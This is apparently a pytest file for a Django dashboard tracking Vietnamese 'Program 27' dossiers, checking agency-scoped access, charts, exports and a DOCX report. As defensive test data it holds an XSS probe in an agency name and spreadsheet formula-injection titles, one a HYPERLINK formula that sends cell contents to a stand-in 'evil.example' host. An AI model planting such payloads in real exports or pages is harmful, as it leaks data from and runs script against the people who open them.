"""The dashboard through HTTP: who sees which agencies, charts with links and tables, the
filtered dossier list, the exports and the report read back, in Vietnamese and English."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from tests.factories import PASSWORD, make_agency, make_user
from tests.workflow.dashboard_world import walked
from workflow.dashboard.visits import rebuild_stage_visits

DONE = [
    ("create", "draft", "2024-03-01"),
    ("submit", "submitted", "2024-03-04"),
    ("accept", "council_review", "2024-03-08"),
    ("pass_review", "awaiting_approval", "2024-03-22"),
    ("approve", "approved", "2024-03-25"),
]
LATE = [("create", "draft", "2024-03-01"), ("submit", "submitted", "2024-03-04")]


@pytest.fixture(autouse=True)
def no_cache(settings):
    settings.DASHBOARD_CACHE_SECONDS = 0


@pytest.fixture
def two_agencies(db):
    mine, theirs = make_agency("Tỉnh ủy Hà Giang"), make_agency("Thành ủy Hải Phòng")
    walked(mine, DONE, title="Kế hoạch chuyển đổi số Hà Giang")
    walked(mine, LATE, title="Dự án số hóa hồ sơ Hà Giang", stage_due_on=datetime.date(2024, 3, 11))
    walked(theirs, DONE, title="Kế hoạch của Hải Phòng")
    walked(theirs, LATE, title="Dự án quá hạn Hải Phòng", stage_due_on=datetime.date(2024, 3, 11))
    rebuild_stage_visits()
    return mine, theirs


def login(client, user):
    assert client.login(username=user.username, password=PASSWORD)
    return client


def url(name, *args, query=""):
    return reverse(f"workflow:dashboard:{name}", args=args) + (f"?{query}" if query else "")


def shown(response) -> str:
    """The page past the filter form (whose agency list names every agency)."""
    return response.content.decode().split("dashboard-filters", 1)[1].split("</form>", 1)[1]


def read_xlsx(response):
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


def read_csv(response):
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads Vietnamese
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def report_text(response):
    document = Document(io.BytesIO(response.content))
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    return "\n".join([p.text for p in document.paragraphs] + cells)


def test_the_central_office_sees_every_agency(client, two_agencies):
    login(client, make_user("secretary"))
    page = client.get(url("home")).content.decode()
    assert "Tỉnh ủy Hà Giang" in page and "Thành ủy Hải Phòng" in page
    assert "Dự án quá hạn Hải Phòng" in page  # the overdue list
    assert 'id="f-agency"' in page  # the agency filter
    only_theirs = shown(client.get(url("home", query=f"agency={two_agencies[1].pk}")))
    assert "Thành ủy Hải Phòng" in only_theirs and "Tỉnh ủy Hà Giang" not in only_theirs


def test_a_drafter_sees_and_exports_only_their_own_agency(client, two_agencies):
    mine, theirs = two_agencies
    login(client, make_user("drafter", mine))
    for query in ("", f"agency={theirs.pk}"):  # asking for another agency changes nothing
        page = client.get(url("home", query=query)).content.decode()
        assert "Tỉnh ủy Hà Giang" in page
        assert "Hải Phòng" not in page
        assert 'id="f-agency"' not in page
    listing = client.get(url("dossiers", query=f"agency={theirs.pk}")).content.decode()
    assert "Kế hoạch chuyển đổi số Hà Giang" in listing and "Hải Phòng" not in listing
    rows = read_xlsx(client.get(url("export_dossiers", "xlsx")))
    assert sorted(r[1] for r in rows[1:]) == [
        "Dự án số hóa hồ sơ Hà Giang", "Kế hoạch chuyển đổi số Hà Giang",
    ]  # fmt: skip
    for table in ("stages", "ontime", "overdue", "decisions", "times", "rounds"):
        for fmt, read in (("xlsx", read_xlsx), ("csv", read_csv)):
            content = str(read(client.get(url("export_table", table, fmt))))
            assert "Hải Phòng" not in content
    stages = read_csv(client.get(url("export_table", "stages", "csv")))
    assert stages[-1][-1] == "2"  # the total counts their two dossiers only
    text = report_text(client.get(url("report")))
    assert "Tỉnh ủy Hà Giang" in text and "Hải Phòng" not in text


def test_people_without_a_dashboard_role_are_refused(client, two_agencies):
    assert client.get(url("home")).status_code == 302  # to the login page
    login(client, make_user("drafter"))  # a drafter of no agency
    assert client.get(url("home")).status_code == 403
    assert client.get(url("export_dossiers", "csv")).status_code == 403
    assert "dashboard/" not in client.get(reverse("workflow:home")).content.decode()


def test_charts_are_inline_svg_whose_bars_open_the_matching_dossier_list(client, two_agencies):
    mine, _theirs = two_agencies
    login(client, make_user("secretary"))
    page = client.get(url("home")).content.decode()
    content = page.split("<main>")[1].split("</main>")[0]
    assert content.count("<svg") == 5 and "<script" not in content
    assert "http" not in content.replace("http://www.w3.org/2000/svg", "")  # nothing fetched
    link = url("dossiers", query=f"agency={mine.pk}&amp;stage=submitted")
    assert f'<a href="{link}">' in page
    listing = shown(client.get(link.replace("&amp;", "&")))
    assert "Dự án số hóa hồ sơ Hà Giang" in listing
    assert "Kế hoạch chuyển đổi số Hà Giang" not in listing and "Hải Phòng" not in listing
    approved = shown(client.get(url("dossiers", query="month=2024-03&outcome=approved")))
    assert "Kế hoạch chuyển đổi số Hà Giang" in approved and "Dự án số hóa" not in approved
    overdue = shown(client.get(url("dossiers", query="overdue=1")))
    assert "Dự án quá hạn Hải Phòng" in overdue and "Kế hoạch chuyển đổi số" not in overdue
    assert f'href="{reverse("workflow:dashboard:home")}"' in page  # the header's link


def test_user_text_is_escaped_in_charts_and_tables(client, db):
    agency = make_agency('Tỉnh ủy <script>alert("x")</script>')
    walked(agency, DONE)
    rebuild_stage_visits()
    login(client, make_user("secretary"))
    page = client.get(url("home")).content.decode()
    assert "<script>alert" not in page and "&lt;script&gt;" in page


def test_bad_filters_are_ignored_not_an_error(client, two_agencies):
    login(client, make_user("secretary"))
    for query in (
        "year=abc", "year=99999", "kind=<b>", "agency=x", "month=2024-13&outcome=approved",
        "round=nope", "stage=nope&page=-3", "agency=99999999999999999999999", "agency=-4",
        "agency=%EF%BC%91",  # a full-width digit one, which int() reads
    ):  # fmt: skip
        assert client.get(url("home", query=query)).status_code == 200
        assert client.get(url("dossiers", query=query)).status_code == 200
        assert client.get(url("export_dossiers", "csv", query=query)).status_code == 200
    assert client.get(url("export_table", "nope", "xlsx")).status_code == 404
    assert client.get(url("export_table", "stages", "pdf")).status_code == 404
    assert client.get(url("export_dossiers", "exe")).status_code == 404


def test_exports_keep_vietnamese_text_in_xlsx_and_csv(client, two_agencies):
    login(client, make_user("secretary"))
    rows = read_xlsx(client.get(url("export_dossiers", "xlsx", query="year=2024")))
    assert rows[0][:3] == ("No.", "Title", "Agency")
    titles = {r[1] for r in rows[1:]}
    assert titles == {
        "Kế hoạch chuyển đổi số Hà Giang", "Dự án số hóa hồ sơ Hà Giang",
        "Kế hoạch của Hải Phòng", "Dự án quá hạn Hải Phòng",
    }  # fmt: skip
    assert all(isinstance(r[5], datetime.datetime) for r in rows[1:])  # real dates for Excel
    lines = read_csv(client.get(url("export_dossiers", "csv")))
    assert {line[1] for line in lines[1:]} == titles
    overdue = read_xlsx(client.get(url("export_table", "overdue", "xlsx")))
    assert {r[0] for r in overdue[1:]} == {"Dự án số hóa hồ sơ Hà Giang", "Dự án quá hạn Hải Phòng"}


def test_a_title_written_like_a_formula_stays_text_in_the_exports(client, two_agencies):
    """A drafter's title "=HYPERLINK(...)" went into the .xlsx as a formula, run by the Excel
    of whoever opened the export."""
    mine, _theirs = two_agencies
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+2", "@SUM(1;2)",
               "-2+3"]
    for title in hostile:
        walked(mine, DONE, title=title)
    login(client, make_user("secretary"))
    response = client.get(url("export_dossiers", "xlsx", query="year=2024"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {row[1].value: row[1].data_type for row in sheet.iter_rows(min_row=2)}
    assert all(cells[title] == "s" for title in hostile), cells  # text, shown as typed
    lines = read_csv(client.get(url("export_dossiers", "csv", query="year=2024")))
    assert {f"'{title}" for title in hostile} <= {line[1] for line in lines[1:]}
    assert "Kế hoạch chuyển đổi số Hà Giang" in {line[1] for line in lines[1:]}  # as it was


def test_the_interface_is_vietnamese_by_default_and_english_at_en(client, two_agencies):
    login(client, make_user("secretary"))
    vietnamese = client.get("/dashboard/").content.decode()
    assert "Bảng theo dõi Chương trình 27" in vietnamese and "Hồ sơ quá hạn" in vietnamese
    english = client.get("/en/dashboard/").content.decode()
    assert "Program 27 dashboard" in english and "Overdue dossiers" in english
    header = read_csv(client.get("/dashboard/tables/overdue.csv"))[0]
    assert header[:2] == ["Tên hồ sơ", "Cơ quan"]


def test_the_report_is_a_party_document_with_the_figures_and_the_overdue_list(
    client, two_agencies
):
    login(client, make_user("approver"))
    response = client.get(url("report", query="year=2024"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    text = report_text(response)
    for expected in (
        "ĐẢNG CỘNG SẢN VIỆT NAM",
        "BÁO CÁO",
        "Tình hình thực hiện Chương trình 27 năm 2024",
        "Tổng số hồ sơ: 4.",
        "Tỉnh ủy Hà Giang",
        "Thành ủy Hải Phòng",
        "HỒ SƠ QUÁ HẠN",
        "Dự án quá hạn Hải Phòng",
        "Nơi nhận:",
        "CHÁNH VĂN PHÒNG",  # the head signs with the title alone
    ):
        assert expected in text, expected
    assert "T/M" not in text
    assert "Số liệu" not in text or "Không có số liệu" not in text.split("HỒ SƠ QUÁ HẠN")[1]
